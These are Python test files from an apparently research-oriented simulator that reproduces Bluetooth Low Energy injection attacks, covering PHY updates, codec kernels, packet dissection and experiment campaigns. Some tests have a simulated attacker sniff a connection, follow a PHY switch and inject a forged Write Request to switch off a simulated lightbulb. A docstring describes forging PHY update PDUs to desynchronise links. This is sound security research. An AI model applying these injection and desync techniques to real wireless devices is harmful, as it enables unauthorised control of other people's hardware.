