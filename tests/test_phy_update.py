"""Tests for the PHY update procedure and its offensive use.

The PHY update (BLE 5.0) is another *instant*-based procedure, like the
connection update Scenario C forges — so the injection primitive extends
to it naturally: a forged LL_PHY_UPDATE_IND re-times nothing but switches
the symbol rate, which a Master that never saw the PDU cannot follow.
"""

import pytest

from repro.core.attacker import Attacker
from repro.devices import Lightbulb, Smartphone
from repro.errors import ConnectionStateError
from repro.ll.connection import phy_mode_from_mask
from repro.ll.pdu.control import (
    PHY_1M,
    PHY_2M,
    PHY_CODED,
    LengthReq,
    LengthRsp,
    PhyReq,
    PhyRsp,
    PhyUpdateInd,
    decode_control_pdu,
)
from repro.phy.modulation import PhyMode
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


class TestPhyPduCodecs:
    def test_phy_update_round_trip(self):
        pdu = PhyUpdateInd(m_to_s_phy=PHY_2M, s_to_m_phy=PHY_2M, instant=99)
        assert decode_control_pdu(pdu.to_payload()) == pdu

    def test_phy_req_rsp_round_trip(self):
        assert decode_control_pdu(PhyReq().to_payload()) == PhyReq()
        assert decode_control_pdu(PhyRsp().to_payload()) == PhyRsp()

    def test_length_req_rsp_round_trip(self):
        assert decode_control_pdu(LengthReq().to_payload()) == LengthReq()
        assert decode_control_pdu(LengthRsp().to_payload()) == LengthRsp()

    def test_mask_mapping(self):
        assert phy_mode_from_mask(PHY_1M) is PhyMode.LE_1M
        assert phy_mode_from_mask(PHY_2M) is PhyMode.LE_2M
        assert phy_mode_from_mask(PHY_CODED) is PhyMode.LE_CODED_S8


def build_pair(seed=81, interval=36):
    sim = Simulator(seed=seed)
    topo = Topology()
    topo.place("bulb", 0.0, 0.0)
    topo.place("phone", 2.0, 0.0)
    medium = Medium(sim, topo)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=interval)
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_000_000)
    assert phone.is_connected
    return sim, bulb, phone


class TestPhyUpdateProcedure:
    def test_switch_to_2m(self):
        sim, bulb, phone = build_pair()
        phone.ll.request_phy_update(PHY_2M)
        sim.run(until_us=4_000_000)
        assert phone.ll.phy is PhyMode.LE_2M
        assert bulb.ll.phy is PhyMode.LE_2M
        assert phone.is_connected and bulb.ll.is_connected

    def test_no_events_missed_across_switch(self):
        sim, bulb, phone = build_pair(seed=82)
        phone.ll.request_phy_update(PHY_2M)
        sim.run(until_us=5_000_000)
        assert len(sim.trace.filter(kind="event-missed")) == 0

    def test_data_flows_on_new_phy(self):
        sim, bulb, phone = build_pair(seed=83)
        phone.ll.request_phy_update(PHY_2M)
        sim.run(until_us=3_000_000)
        ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
        acks = []
        phone.gatt.write(ctrl, Lightbulb.power_payload(False), acks.append)
        sim.run(until_us=5_000_000)
        assert acks == [True] and not bulb.is_on

    def test_frames_shorter_on_2m(self):
        sim, bulb, phone = build_pair(seed=84)
        phone.ll.request_phy_update(PHY_2M)
        sim.run(until_us=5_000_000)
        # Empty data PDU: 80 µs at 1M, 44 µs at 2M (11 bytes × 4 µs).
        late_txs = sim.trace.filter(source="phone", kind="master-tx")
        assert late_txs
        assert phone.ll.radio.tx_duration_us(2, PhyMode.LE_2M) == \
            pytest.approx(44.0)

    def test_double_pending_phy_rejected(self):
        sim, bulb, phone = build_pair(seed=85)
        phone.ll.request_phy_update(PHY_2M, instant_delta=20)
        with pytest.raises(ConnectionStateError):
            phone.ll.conn.schedule_phy(PhyUpdateInd(instant=30))

    def test_mismatched_phys_cannot_hear_each_other(self):
        """The physical basis of the desync: a 1M receiver cannot lock a
        2M frame."""
        from repro.sim.transceiver import Transceiver

        sim = Simulator(seed=86)
        topo = Topology()
        topo.place("a", 0.0, 0.0)
        topo.place("b", 1.0, 0.0)
        medium = Medium(sim, topo)
        a = Transceiver(sim, medium, "a")
        b = Transceiver(sim, medium, "b")
        got = []
        b.on_frame = lambda f, rssi: got.append(f)
        b.rx_phy = PhyMode.LE_1M
        b.listen(5)
        sim.schedule_at(10.0, lambda: a.transmit(1 << 20, b"x", 0, 5,
                                                 phy=PhyMode.LE_2M))
        sim.run()
        assert got == []


class TestAttackerThroughPhyUpdate:
    def test_sniffer_follows_a_phy_switch(self):
        sim = Simulator(seed=87)
        topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
        medium = Medium(sim, topo)
        bulb = Lightbulb(sim, medium, "bulb")
        phone = Smartphone(sim, medium, "phone", interval=36)
        attacker = Attacker(sim, medium, "attacker")
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        assert attacker.synchronized
        phone.ll.request_phy_update(PHY_2M)
        sim.run(until_us=5_000_000)
        conn = attacker.connection
        assert conn.phy is PhyMode.LE_2M
        assert conn.alive and conn.events_since_anchor <= 1

    def test_injection_on_2m_connection(self):
        from repro.host.att.pdus import WriteReq
        from repro.host.l2cap import CID_ATT, l2cap_encode

        sim = Simulator(seed=88)
        topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
        medium = Medium(sim, topo)
        bulb = Lightbulb(sim, medium, "bulb")
        phone = Smartphone(sim, medium, "phone", interval=75)
        attacker = Attacker(sim, medium, "attacker")
        attacker.sniff_new_connections()
        bulb.power_on()
        phone.connect_to(bulb.address)
        sim.run(until_us=1_500_000)
        phone.ll.request_phy_update(PHY_2M)
        sim.run(until_us=4_000_000)
        assert attacker.connection.phy is PhyMode.LE_2M
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(CID_ATT, WriteReq(
            handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
        reports = []
        attacker.inject(payload, on_done=reports.append)
        sim.run(until_us=60_000_000)
        assert reports and reports[0].success
        assert not bulb.is_on
