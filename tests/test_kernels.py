"""Differential tests: table-driven codec kernels vs. bit-level references.

Every fast path (byte-wise CRC-24 forward/reverse, keystream whitening,
cached CSA#2 schedules, T-table AES) is cross-checked against the retained
reference implementation over ~1k random inputs, and — because the trial
cache must only ever invalidate, never silently diverge — a fixed-seed
trial panel is asserted byte-identical at the ``TrialResult`` level with
the kernels swapped out via :func:`repro.kernels.reference_kernels`.
"""

import random

import pytest

from repro.crypto.aes import (
    aes128_encrypt_block,
    aes128_encrypt_block_reference,
    expand_key,
)
from repro.crypto.ccm import ccm_decrypt, ccm_encrypt
from repro.errors import CodecError, LinkLayerError, SecurityError
from repro.kernels import REV8, reference_kernels
from repro.ll import csa2 as csa2_module
from repro.ll.csa2 import Csa2, channel_identifier
from repro.phy.crc import (
    crc24,
    crc24_reference,
    reverse_crc24_init,
    reverse_crc24_init_reference,
)
from repro.phy.whitening import whiten, whiten_reference

N_RANDOM = 1000


class TestRev8Table:
    def test_matches_bitwise_reversal(self):
        for value in range(256):
            expected = int(f"{value:08b}"[::-1], 2)
            assert REV8[value] == expected

    def test_involution(self):
        assert all(REV8[REV8[v]] == v for v in range(256))


class TestCrcDifferential:
    def test_forward_random(self):
        rng = random.Random(0xC24)
        for _ in range(N_RANDOM):
            data = bytes(rng.randrange(256)
                         for _ in range(rng.randrange(0, 64)))
            init = rng.randrange(1 << 24)
            assert crc24(data, init) == crc24_reference(data, init)

    def test_reverse_random(self):
        rng = random.Random(0xC42)
        for _ in range(N_RANDOM):
            data = bytes(rng.randrange(256)
                         for _ in range(rng.randrange(0, 64)))
            value = rng.randrange(1 << 24)
            assert reverse_crc24_init(data, value) == \
                reverse_crc24_init_reference(data, value)

    def test_roundtrip_through_fast_paths(self):
        rng = random.Random(7)
        for _ in range(200):
            data = bytes(rng.randrange(256)
                         for _ in range(rng.randrange(1, 40)))
            init = rng.randrange(1 << 24)
            assert reverse_crc24_init(data, crc24(data, init)) == init


class TestWhiteningDifferential:
    def test_random(self):
        rng = random.Random(0x40)
        for _ in range(N_RANDOM):
            data = bytes(rng.randrange(256)
                         for _ in range(rng.randrange(0, 64)))
            channel = rng.randrange(40)
            assert whiten(data, channel) == whiten_reference(data, channel)

    def test_beyond_keystream_period(self):
        # Frames longer than the 127-byte keystream period exercise tiling.
        data = bytes(range(256)) * 2
        for channel in (0, 11, 39):
            assert whiten(data, channel) == whiten_reference(data, channel)
            assert whiten(whiten(data, channel), channel) == data


class TestCsa2Differential:
    def test_random_sequences(self):
        rng = random.Random(0x52)
        for _ in range(25):
            aa = rng.randrange(1 << 32)
            channel_map = rng.randrange(1, 1 << 37)
            csa = Csa2(aa, channel_map)
            for _ in range(40):  # 25 * 40 = 1000 cross-checked events
                event = rng.randrange(1 << 16)
                assert csa.channel_for_event(event) == \
                    csa.channel_for_event_reference(event)

    def test_schedule_shared_between_instances(self):
        # Master, Slave and sniffer of one connection read the same blocks.
        csa2_module.clear_schedule_cache()
        a = Csa2(0x71764129)
        b = Csa2(0x71764129)
        assert a._blocks is b._blocks
        a.channel_for_event(0)
        assert 0 in b._blocks

    def test_channel_map_update_switches_schedule(self):
        csa = Csa2(0x71764129)
        before = [csa.channel_for_event(e) for e in range(64)]
        csa.set_channel_map(0x3FF)
        assert all(csa.channel_for_event(e) <= 9 for e in range(200))
        csa.set_channel_map((1 << 37) - 1)
        assert [csa.channel_for_event(e) for e in range(64)] == before

    def test_cache_eviction_keeps_results_correct(self):
        csa2_module.clear_schedule_cache()
        reference = Csa2(0x12345678)
        expected = [reference.channel_for_event_reference(e) for e in range(8)]
        # Overflow the (ch_id, map) LRU so the first schedule is evicted.
        for aa in range(csa2_module._MAX_SCHEDULES + 4):
            Csa2(aa).channel_for_event(0)
        fresh = Csa2(0x12345678)
        assert [fresh.channel_for_event(e) for e in range(8)] == expected


class TestAesDifferential:
    def test_random_blocks(self):
        rng = random.Random(0xAE5)
        for _ in range(N_RANDOM):
            key = bytes(rng.randrange(256) for _ in range(16))
            block = bytes(rng.randrange(256) for _ in range(16))
            assert aes128_encrypt_block(key, block) == \
                aes128_encrypt_block_reference(key, block)

    def test_expand_key_returns_fresh_list(self):
        key = bytes(range(16))
        first = expand_key(key)
        first[0] = b"\x00" * 16  # a caller mutating its copy ...
        assert expand_key(key)[0] == key  # ... must not poison the cache

    def test_ccm_roundtrip_on_fast_path(self):
        key, nonce = bytes(range(16)), bytes(13)
        payload = b"injected frame payload"
        sealed = ccm_encrypt(key, nonce, payload, aad=b"\x02")
        assert ccm_decrypt(key, nonce, sealed, aad=b"\x02") == payload


class TestValidationHoisting:
    """Out-of-range arguments are rejected once, before any per-byte work."""

    def test_crc24_rejects_out_of_range_init(self):
        for bad in (-1, 1 << 24, 1 << 32):
            with pytest.raises(CodecError):
                crc24(b"x", bad)
            with pytest.raises(CodecError):
                crc24_reference(b"x", bad)

    def test_reverse_crc24_rejects_out_of_range_value(self):
        for bad in (-1, 1 << 24):
            with pytest.raises(CodecError):
                reverse_crc24_init(b"x", bad)
            with pytest.raises(CodecError):
                reverse_crc24_init_reference(b"x", bad)

    def test_whiten_rejects_out_of_range_channel(self):
        for bad in (-1, 40, 255):
            with pytest.raises(CodecError):
                whiten(b"\x00", bad)
            with pytest.raises(CodecError):
                whiten_reference(b"\x00", bad)

    def test_csa2_rejects_out_of_range_event(self):
        csa = Csa2(0x71764129)
        for bad in (-1, 1 << 16):
            with pytest.raises(LinkLayerError):
                csa.channel_for_event(bad)
            with pytest.raises(LinkLayerError):
                csa.channel_for_event_reference(bad)

    def test_channel_identifier_rejects_out_of_range_aa(self):
        for bad in (-1, 1 << 32):
            with pytest.raises(LinkLayerError):
                channel_identifier(bad)

    def test_aes_rejects_bad_lengths(self):
        with pytest.raises(SecurityError):
            aes128_encrypt_block(bytes(15), bytes(16))
        with pytest.raises(SecurityError):
            aes128_encrypt_block(bytes(16), bytes(15))
        with pytest.raises(SecurityError):
            aes128_encrypt_block_reference(bytes(16), bytes(15))


class TestReferenceKernelSwap:
    def test_swap_and_restore(self):
        from repro.crypto import aes
        from repro.phy import crc, whitening

        assert crc._crc24_impl is crc._crc24_table
        with reference_kernels():
            assert crc._crc24_impl is crc._crc24_bitwise
            assert whitening._whiten_impl is whitening._whiten_bitwise
            assert aes._encrypt_impl is aes._encrypt_reference
            assert not csa2_module._fast_enabled
            assert crc24(b"abc", 0x555555) == crc24_reference(b"abc", 0x555555)
        assert crc._crc24_impl is crc._crc24_table
        assert csa2_module._fast_enabled


class TestEndToEndDeterminism:
    def test_trial_results_identical_under_reference_kernels(self):
        """The kernel swap must be invisible at the trial-result level.

        This is the property the runner's :class:`ResultCache` rests on:
        the source-tree hash may *invalidate* cached results, but a cached
        result replayed against either kernel set must be byte-identical
        to a fresh run — reports, records and verdicts included.
        """
        from repro.experiments.common import InjectionTrial, run_single_trial

        trials = [
            InjectionTrial(seed=4242, hop_interval=50),
            InjectionTrial(seed=9001, hop_interval=75, pdu_len=22),
            InjectionTrial(seed=777, encrypted=True),
        ]
        fast = [run_single_trial(t) for t in trials]
        with reference_kernels():
            reference = [run_single_trial(t) for t in trials]
        assert fast == reference
