"""Tests for the packet capture/dissector."""

import pytest

from repro.analysis.packets import PacketCapture
from repro.core.attacker import Attacker
from repro.devices import Lightbulb, Smartphone
from repro.host.att.pdus import WriteReq
from repro.host.l2cap import CID_ATT, l2cap_encode
from repro.sim.medium import Medium
from repro.sim.simulator import Simulator
from repro.sim.topology import Topology


@pytest.fixture
def captured_world():
    sim = Simulator(seed=97)
    topo = Topology.equilateral_triangle(("bulb", "phone", "attacker"))
    medium = Medium(sim, topo)
    capture = PacketCapture(medium)
    bulb = Lightbulb(sim, medium, "bulb")
    phone = Smartphone(sim, medium, "phone", interval=36)
    bulb.power_on()
    phone.connect_to(bulb.address)
    sim.run(until_us=1_500_000)
    assert phone.is_connected
    return sim, medium, capture, bulb, phone


class TestDissection:
    def test_adv_ind_with_name(self, captured_world):
        _, _, capture, *_ = captured_world
        adv = capture.matching("ADV_IND")
        assert adv
        assert any("name='bulb'" in p.summary for p in adv)

    def test_connect_req_parameters(self, captured_world):
        _, _, capture, _, phone = captured_world
        reqs = capture.matching("CONNECT_REQ")
        assert len(reqs) == 1
        assert "interval=36" in reqs[0].summary
        aa = phone.ll.conn.params.access_address
        assert f"aa={aa:#010x}" in reqs[0].summary

    def test_crc_verified_from_learned_init(self, captured_world):
        _, _, capture, *_ = captured_world
        data = capture.matching("DATA")
        assert data
        assert all(p.crc_ok for p in data)

    def test_direction_inference(self, captured_world):
        _, _, capture, *_ = captured_world
        m_to_s = capture.matching("M->S")
        s_to_m = capture.matching("S->M")
        assert len(m_to_s) > 5 and len(s_to_m) > 5
        # Alternating within events: counts should be nearly equal.
        assert abs(len(m_to_s) - len(s_to_m)) <= 2

    def test_att_dissection(self, captured_world):
        sim, _, capture, bulb, phone = captured_world
        ctrl = bulb.gatt.find_characteristic(0xFF11).value_handle
        phone.gatt.write(ctrl, Lightbulb.power_payload(False))
        sim.run(until_us=3_000_000)
        writes = capture.matching("ATT WriteReq")
        responses = capture.matching("ATT WriteRsp")
        assert writes and responses

    def test_control_dissection(self, captured_world):
        sim, _, capture, bulb, phone = captured_world
        phone.ll.request_connection_update(interval=50)
        sim.run(until_us=3_000_000)
        assert capture.matching("LL ConnectionUpdateInd")

    def test_smp_dissection(self, captured_world):
        sim, _, capture, bulb, phone = captured_world
        phone.host.pair(encrypt=False)
        sim.run(until_us=4_000_000)
        assert capture.matching("SMP PairingRequest")
        assert capture.matching("SMP PairingConfirm")
        assert capture.matching("SMP PairingRandom")

    def test_injected_frame_visible(self, captured_world):
        sim, medium, capture, bulb, phone = captured_world
        attacker = Attacker(sim, medium, "attacker")
        attacker.recover_established(probe_channel=0)
        sim.run(until_us=60_000_000)
        if not attacker.synchronized:
            pytest.skip("recovery did not converge under this seed")
        handle = bulb.gatt.find_characteristic(0xFF11).value_handle
        payload = l2cap_encode(CID_ATT, WriteReq(
            handle, Lightbulb.power_payload(False, pad_to=5)).to_bytes())
        before = len(capture.matching("ATT WriteReq"))
        reports = []
        attacker.inject(payload, on_done=reports.append)
        sim.run(until_us=sim.now + 60_000_000)
        assert reports and reports[0].success
        # The injected Write Request shows up on air like any other.
        assert len(capture.matching("ATT WriteReq")) > before

    def test_render_lines(self, captured_world):
        _, _, capture, *_ = captured_world
        text = capture.render(limit=5)
        assert len(text.splitlines()) == 5
        assert "ch" in text
