"""Tests for the fault-tolerant campaign orchestration engine.

Four layers:

* **Robust executor** — ``run_units_robust`` classifies timeout / crash /
  error, retries only the retryable, quarantines after ``max_retries``
  and never lets one pathological unit abort the batch.
* **Expansion & sharding** — a spec expands to the same ordered unit
  list every time; ``--shard i/n`` partitions the grid exactly.
* **Resume byte-identity** — the acceptance criterion: a ≥48-unit
  campaign SIGKILLed mid-run and resumed produces a report
  byte-identical to an uninterrupted run (at different ``--jobs``).
* **Failure quarantine** — an always-crashing synthetic experiment is
  retried, recorded ``failed`` and does not stall the rest of the grid.
"""

from __future__ import annotations

import dataclasses
import json
import os
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from repro.campaign import (
    CampaignSpec,
    ExperimentDef,
    build_report,
    expand_units,
    load_state,
    parse_shard,
    read_journal,
    register_experiment,
    register_trial_runner,
    render_status,
    run_campaign,
    shard_units,
)
from repro.cli import main
from repro.errors import ConfigurationError
from repro.experiments.common import TrialResult
from repro.runner.executor import run_units_robust

SRC_DIR = Path(__file__).resolve().parent.parent / "src"


# --------------------------------------------------------------------------
# Synthetic units for the robust executor (module-level: fork-inheritable).

def _double(x):
    return x * 2


def _sleep_forever(x):
    time.sleep(60)
    return x


def _hard_crash(x):
    os._exit(13)


def _raise_value_error(x):
    raise ValueError(f"deterministic failure on {x!r}")


def _crash_once_marker(path_str):
    """Crash on the first attempt, succeed once the marker file exists."""
    marker = Path(path_str)
    if not marker.exists():
        marker.write_text("attempted")
        os._exit(7)
    return "recovered"


class TestRobustExecutor:
    def test_ok_results_in_order(self):
        outcomes = run_units_robust(_double, [1, 2, 3], jobs=2)
        assert [o.status for o in outcomes] == ["ok"] * 3
        assert [o.result for o in outcomes] == [2, 4, 6]
        assert [o.index for o in outcomes] == [0, 1, 2]

    def test_timeout_is_quarantined_with_retry_count(self):
        (outcome,) = run_units_robust(
            _sleep_forever, ["x"], jobs=1,
            timeout_s=0.2, max_retries=1, backoff_s=0.01)
        assert outcome.status == "timeout"
        assert outcome.retries == 1
        assert not outcome.ok

    def test_crash_is_quarantined_without_aborting_batch(self):
        outcomes = run_units_robust(
            _mixed, [0, 1, 2], jobs=2,
            timeout_s=10, max_retries=1, backoff_s=0.01)
        by_index = {o.index: o for o in outcomes}
        assert by_index[0].status == "ok" and by_index[0].result == "fine-0"
        assert by_index[1].status == "crash"
        assert by_index[1].retries == 1
        assert by_index[2].status == "ok" and by_index[2].result == "fine-2"

    def test_clean_exception_is_never_retried(self):
        (outcome,) = run_units_robust(
            _raise_value_error, ["unit"], jobs=1,
            max_retries=2, backoff_s=0.01)
        assert outcome.status == "error"
        assert outcome.retries == 0  # deterministic: retrying cannot help
        assert "deterministic failure" in outcome.detail

    def test_retry_recovers_transient_crash(self, tmp_path):
        (outcome,) = run_units_robust(
            _crash_once_marker, [str(tmp_path / "marker")], jobs=1,
            max_retries=2, backoff_s=0.01)
        assert outcome.status == "ok"
        assert outcome.result == "recovered"
        assert outcome.retries == 1


def _mixed(x):
    if x == 1:
        os._exit(5)
    return f"fine-{x}"


# --------------------------------------------------------------------------
# Campaign specs used throughout.

def _small_spec() -> CampaignSpec:
    """8 real units: hop x2 and payload x2 configurations, 2 each."""
    return CampaignSpec.from_dict({
        "name": "small",
        "seed": 1,
        "connections": 2,
        "timeout_s": 120,
        "axes": [
            {"experiment": "hop", "hop_intervals": [25, 75]},
            {"experiment": "payload", "payload_sizes": [4, 14]},
        ],
    })


def _grid48_spec() -> CampaignSpec:
    """The acceptance grid: 48 real trials over two axes."""
    return CampaignSpec.from_dict({
        "name": "grid48",
        "seed": 1,
        "connections": 6,
        "timeout_s": 120,
        "axes": [
            {"experiment": "hop", "hop_intervals": [25, 50, 75, 100]},
            {"experiment": "payload", "payload_sizes": [4, 9, 14, 16]},
        ],
    })


class TestExpansionAndSharding:
    def test_expansion_is_deterministic(self):
        spec = _small_spec()
        first = expand_units(spec)
        second = expand_units(spec)
        assert [u.unit_id for u in first] == [u.unit_id for u in second]
        assert [u.trial for u in first] == [u.trial for u in second]
        assert len(first) == 8

    def test_unit_ids_are_stable_and_readable(self):
        ids = [u.unit_id for u in expand_units(_small_spec())]
        assert ids[0] == "00.hop:25:0000"
        assert ids[3] == "00.hop:75:0001"
        assert ids[-1] == "01.payload:14:0001"
        assert len(set(ids)) == len(ids)

    def test_campaign_seeds_match_the_standalone_panels(self):
        """Campaign trials must share cache entries with repro experiment."""
        from repro.experiments.hop_interval import trial_units

        campaign_hop = [u.trial for u in expand_units(_small_spec())
                        if u.experiment == "hop"]
        standalone = [t for _, t in trial_units(
            base_seed=1, n_connections=2, hop_intervals=[25, 75])]
        assert campaign_hop == standalone

    @pytest.mark.parametrize("count", [1, 2, 3, 5, 8, 11])
    def test_shards_partition_the_grid_exactly(self, count):
        units = expand_units(_grid48_spec())
        seen = []
        for index in range(count):
            seen.extend(u.unit_id for u in shard_units(units, index, count))
        assert sorted(seen) == sorted(u.unit_id for u in units)
        assert len(seen) == len(set(seen)) == 48

    def test_parse_shard(self):
        assert parse_shard("0/1") == (0, 1)
        assert parse_shard("2/3") == (2, 3)
        for bad in ("3/3", "-1/2", "1", "a/b", "1/0"):
            with pytest.raises(ConfigurationError):
                parse_shard(bad)

    def test_unknown_experiment_is_a_config_error(self):
        spec = CampaignSpec.from_dict({
            "name": "bad", "axes": [{"experiment": "warp-drive"}]})
        with pytest.raises(ConfigurationError, match="warp-drive"):
            expand_units(spec)

    def test_spec_rejects_unknown_keys(self):
        with pytest.raises(ConfigurationError):
            CampaignSpec.from_dict({
                "name": "x", "axes": [{"experiment": "hop"}],
                "max_trials": 5})  # budgets are per-invocation, not spec


# --------------------------------------------------------------------------
# Synthetic experiments, registered exactly like the built-ins.

@dataclasses.dataclass(frozen=True)
class _CrashTrial:
    seed: int


@dataclasses.dataclass(frozen=True)
class _EasyTrial:
    seed: int


def _run_crash_trial(trial):
    os._exit(9)


def _run_easy_trial(trial):
    return TrialResult(success=True, attempts=1, effect_observed=True,
                       connection_survived=True)


def _crash_units(base_seed=0, n_connections=2):
    return [("boom", _CrashTrial(seed=base_seed + i))
            for i in range(n_connections)]


def _easy_units(base_seed=0, n_connections=2):
    return [("easy", _EasyTrial(seed=base_seed + i))
            for i in range(n_connections)]


register_experiment(ExperimentDef(
    "test-crash", _crash_units, "always-crashing fixture"), replace=True)
register_experiment(ExperimentDef(
    "test-easy", _easy_units, "instant fixture"), replace=True)
register_trial_runner(_CrashTrial, _run_crash_trial, replace=True)
register_trial_runner(_EasyTrial, _run_easy_trial, replace=True)


class TestQuarantine:
    def test_crashing_units_are_quarantined_not_fatal(self, tmp_path):
        spec = CampaignSpec.from_dict({
            "name": "quarantine", "seed": 0, "connections": 2,
            "timeout_s": 30, "max_retries": 2, "backoff_s": 0.01,
            "axes": [{"experiment": "test-crash"},
                     {"experiment": "test-easy", "n_connections": 3}],
        })
        journal = tmp_path / "campaign.jsonl"
        state = run_campaign(spec, journal, jobs=2)
        assert state.total == 5
        assert state.done == 5          # the campaign finished the grid
        assert state.failed_count == 2  # both crashers quarantined
        assert state.ok_count == 3

        for unit_id, record in state.records.items():
            if "test-crash" in unit_id:
                assert record.status == "failed"
                assert record.failure["kind"] == "crash"
                assert record.failure["retries"] == 2
            else:
                assert record.status == "ok"
                assert record.result["success"] is True

        report = build_report(load_state(journal))
        assert "Failure taxonomy" in report
        assert "crash" in report

    def test_cli_exit_codes(self, tmp_path, capsys):
        spec_path = tmp_path / "spec.json"
        spec_path.write_text(json.dumps({
            "name": "cli", "seed": 0,
            "max_retries": 0, "timeout_s": 30,
            "axes": [{"experiment": "test-easy", "n_connections": 2}],
        }))
        journal = tmp_path / "j.jsonl"
        assert main(["campaign", "run", str(spec_path),
                     "--journal", str(journal)]) == 0
        assert main(["campaign", "status", str(journal)]) == 0
        assert main(["campaign", "report", str(journal)]) == 0
        capsys.readouterr()

        bad_spec = tmp_path / "bad.json"
        bad_spec.write_text(json.dumps({
            "name": "cli-bad", "seed": 0,
            "max_retries": 0, "timeout_s": 30, "backoff_s": 0.01,
            "axes": [{"experiment": "test-crash", "n_connections": 1}],
        }))
        bad_journal = tmp_path / "bad.jsonl"
        assert main(["campaign", "run", str(bad_spec),
                     "--journal", str(bad_journal)]) == 1  # quarantined unit
        assert main(["campaign", "run", str(tmp_path / "missing.json"),
                     "--journal", str(bad_journal)]) == 2  # usage error
        capsys.readouterr()


# --------------------------------------------------------------------------
# Journal + resume semantics.

class TestJournal:
    def test_budget_interrupt_then_resume_is_byte_identical(self, tmp_path):
        spec = CampaignSpec.from_dict({
            "name": "budget", "seed": 0, "timeout_s": 30,
            "axes": [{"experiment": "test-easy", "n_connections": 8}],
        })
        straight = tmp_path / "straight.jsonl"
        run_campaign(spec, straight, jobs=2)

        chopped = tmp_path / "chopped.jsonl"
        state = run_campaign(spec, chopped, jobs=1, max_trials=3)
        assert state.done == 3 and len(state.pending) == 5
        state = run_campaign(spec, chopped, jobs=2, max_trials=2)
        assert state.done == 5
        state = run_campaign(spec, chopped, jobs=2)  # finish the rest
        assert state.done == 8 and not state.pending

        assert build_report(load_state(chopped)) == \
            build_report(load_state(straight))
        # The journals themselves differ (run records), the report cannot.
        assert read_journal(chopped)[3] == 3  # three run records
        assert read_journal(straight)[3] == 1

    def test_torn_final_line_is_tolerated(self, tmp_path):
        spec = CampaignSpec.from_dict({
            "name": "torn", "seed": 0, "timeout_s": 30,
            "axes": [{"experiment": "test-easy", "n_connections": 4}],
        })
        journal = tmp_path / "torn.jsonl"
        run_campaign(spec, journal, jobs=1, max_trials=2)
        with journal.open("a") as fh:
            fh.write('{"type": "unit", "unit_id": "00.test-easy:easy:000')
        state = load_state(journal)  # no error: the torn tail is dropped
        assert state.done == 2
        run_campaign(spec, journal, jobs=1)
        assert load_state(journal).done == 4

    def test_fingerprint_mismatch_is_refused(self, tmp_path):
        journal = tmp_path / "fp.jsonl"
        run_campaign(CampaignSpec.from_dict({
            "name": "fp", "seed": 0, "timeout_s": 30,
            "axes": [{"experiment": "test-easy", "n_connections": 1}],
        }), journal, jobs=1)
        edited = CampaignSpec.from_dict({
            "name": "fp", "seed": 1, "timeout_s": 30,
            "axes": [{"experiment": "test-easy", "n_connections": 1}],
        })
        with pytest.raises(ConfigurationError, match="fingerprint"):
            run_campaign(edited, journal, jobs=1)

    def test_status_render_mentions_progress(self, tmp_path):
        spec = CampaignSpec.from_dict({
            "name": "st", "seed": 0, "timeout_s": 30,
            "axes": [{"experiment": "test-easy", "n_connections": 4}],
        })
        journal = tmp_path / "st.jsonl"
        run_campaign(spec, journal, jobs=1, max_trials=1)
        text = render_status(load_state(journal))
        assert "1" in text and "4" in text
        assert "st" in text


# --------------------------------------------------------------------------
# The acceptance criterion: SIGKILL mid-run, resume, byte-identical report.

class TestKillAndResume:
    def test_sigkill_midrun_resume_matches_uninterrupted(self, tmp_path):
        """48 real trials; the worker pool is SIGKILLed mid-campaign.

        The interrupted+resumed journal and a separate uninterrupted
        journal must render byte-identical reports.  A shared result
        cache keeps the wall-clock cost near one full run: the second
        (uninterrupted) campaign replays cached trial results.
        """
        spec_path = tmp_path / "grid48.json"
        spec = _grid48_spec()
        spec_path.write_text(json.dumps(spec.to_dict()))
        killed = tmp_path / "killed.jsonl"

        env = dict(os.environ)
        env["PYTHONPATH"] = str(SRC_DIR) + os.pathsep + \
            env.get("PYTHONPATH", "")
        env["REPRO_CACHE_DIR"] = str(tmp_path / "cache")
        proc = subprocess.Popen(
            [sys.executable, "-m", "repro", "campaign", "run",
             str(spec_path), "--journal", str(killed),
             "--jobs", "4", "--cache"],
            env=env, start_new_session=True,
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        try:
            deadline = time.monotonic() + 120
            while time.monotonic() < deadline:
                done = 0
                if killed.exists():
                    done = sum(1 for line in killed.read_text().splitlines()
                               if '"type": "unit"' in line)
                if done >= 5:
                    break
                if proc.poll() is not None:
                    pytest.fail("campaign finished before it could be "
                                "killed; raise the grid size")
                time.sleep(0.1)
            else:
                pytest.fail("campaign never recorded 5 units")
            os.killpg(proc.pid, signal.SIGKILL)
        finally:
            proc.wait(30)

        partial = load_state(killed)
        assert 0 < partial.done < 48

        cache_env = os.environ.get("REPRO_CACHE_DIR")
        os.environ["REPRO_CACHE_DIR"] = str(tmp_path / "cache")
        try:
            resumed = run_campaign(spec, killed, jobs=2, cache=True)
            assert resumed.done == 48 and not resumed.pending

            straight = tmp_path / "straight.jsonl"
            run_campaign(spec, straight, jobs=4, cache=True)
        finally:
            if cache_env is None:
                os.environ.pop("REPRO_CACHE_DIR", None)
            else:
                os.environ["REPRO_CACHE_DIR"] = cache_env

        report_killed = build_report(load_state(killed))
        report_straight = build_report(load_state(straight))
        assert report_killed == report_straight
        assert "grid48" in report_killed
