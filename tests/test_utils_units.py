"""Unit tests for repro.utils.units."""

import pytest

from repro.utils.units import (
    SLOT_US,
    T_IFS_US,
    ms_to_us,
    ppm_drift_us,
    s_to_us,
)


class TestConstants:
    def test_slot_is_1250us(self):
        assert SLOT_US == 1250.0

    def test_tifs_is_150us(self):
        assert T_IFS_US == 150.0


class TestConversions:
    def test_ms_to_us(self):
        assert ms_to_us(1.25) == 1250.0

    def test_s_to_us(self):
        assert s_to_us(2.0) == 2_000_000.0


class TestPpmDrift:
    def test_paper_example(self):
        # 70 ppm over a 93.75 ms interval (hop 75) ≈ 6.56 µs.
